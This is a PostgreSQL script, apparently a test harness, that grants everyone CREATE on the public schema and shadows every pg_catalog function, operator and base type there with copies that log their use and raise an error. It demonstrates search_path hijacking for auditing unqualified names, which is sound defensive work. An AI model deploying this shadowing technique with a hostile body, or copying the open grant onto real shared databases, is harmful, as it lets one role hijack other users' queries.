-- What a role with CREATE on `public` can do to everyone whose SQL names functions, operators and types without their
-- schema. Every object notes that it was used and raises an error. Run with pg_catalog alone in the search path.
GRANT CREATE, USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA attack;
GRANT USAGE ON SCHEMA attack TO PUBLIC;
-- The sequence keeps its value when the transaction that used an object is rolled back.
CREATE SEQUENCE attack.used;
CREATE TABLE attack.object (number serial PRIMARY KEY, name text);
GRANT UPDATE ON SEQUENCE attack.used TO PUBLIC;

CREATE FUNCTION attack.body(object text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE number integer;
BEGIN
    INSERT INTO attack.object (name) VALUES (object) RETURNING object.number INTO number;
    RETURN format('BEGIN PERFORM pg_catalog.setval(%L::pg_catalog.regclass, %s); RAISE EXCEPTION %L; END', 'attack.used', number,
                  'hostile ' || replace(object, '%', '%%'));
END $$;

-- Creates a function of pg_catalog's name, arguments and result; some types, such as `internal`, are only for functions in C.
CREATE FUNCTION attack.copy(f pg_proc, arguments text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L', f.proname, arguments,
                   CASE WHEN f.proretset THEN 'SETOF ' END, format_type(f.prorettype, NULL), attack.body(format('%s(%s)', f.proname, arguments)));
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;

-- A copy of every function: it wins wherever `public` comes before pg_catalog.
DO $$
DECLARE f pg_proc;
BEGIN
    FOR f IN SELECT * FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' LOOP
        PERFORM attack.copy(f, (
            SELECT string_agg(CASE WHEN f.provariadic <> 0 AND a.ordinal = f.pronargs THEN 'VARIADIC ' ELSE '' END || format_type(a.type, NULL), ', ' ORDER BY a.ordinal)
            FROM unnest(f.proargtypes::oid[]) WITH ORDINALITY AS a (type, ordinal)));
    END LOOP;
END $$;

-- Every operator, and operators for pairs of types that have none of their own: these win in any search path.
DO $$
DECLARE o record;
BEGIN
    FOR o IN
        SELECT oprname AS name, NULLIF(oprleft, 0)::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result
        FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace
        UNION
        SELECT symbol, l, r, CASE WHEN symbol IN ('+', '-', '*', '&', '||') THEN l ELSE 'boolean'::regtype END
        FROM unnest('{=,<>,<,>,<=,>=,+,-,*,&,||,~,!~,~~}'::text[]) AS symbol,
             unnest('{text,varchar,bpchar,name,"char",bool,int2,int4,int8,numeric,float8,oid,xid,timestamptz,interval,jsonb,bytea}'::regtype[]) AS l,
             unnest('{text,varchar,bpchar,name,"char",bool,int2,int4,int8,numeric,float8,oid,xid,timestamptz,interval,jsonb,bytea}'::regtype[]) AS r
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION attack.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', 'operator ' || o.name,
                           concat_ws(', ', o.l, o.r), o.result, attack.body(format('%s %s %s', o.l, o.name, o.r)));
            EXECUTE format('CREATE OPERATOR public.%s (FUNCTION = attack.%I, %s RIGHTARG = %s)', o.name, 'operator ' || o.name,
                           'LEFTARG = ' || o.l || ',', o.r);
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
END $$;

-- Functions that are a better match for arguments of type unknown or name than pg_catalog's own.
DO $$
DECLARE f pg_proc;
BEGIN
    FOR f IN
        SELECT * FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f'
                              AND proargtypes::oid[] && '{name,"char"}'::regtype[]::oid[]
    LOOP
        PERFORM attack.copy(f, (
            SELECT string_agg(CASE WHEN a.type IN ('name'::regtype, '"char"'::regtype) THEN 'text' ELSE format_type(a.type, NULL) END, ', ' ORDER BY a.ordinal)
            FROM unnest(f.proargtypes::oid[]) WITH ORDINALITY AS a (type, ordinal)));
    END LOOP;
END $$;

-- Types of the same names.
DO $$
DECLARE t record;
BEGIN
    FOR t IN SELECT typname FROM pg_type
             WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typname !~ '^_' AND typcategory <> 'Z'
    LOOP
        EXECUTE format('CREATE FUNCTION attack.%I() RETURNS boolean LANGUAGE plpgsql AS %L', 'type ' || t.typname, attack.body('type ' || t.typname));
        EXECUTE format('CREATE DOMAIN public.%1$I AS pg_catalog.%1$I CHECK (attack.%2$I())', t.typname, 'type ' || t.typname);
    END LOOP;
END $$;
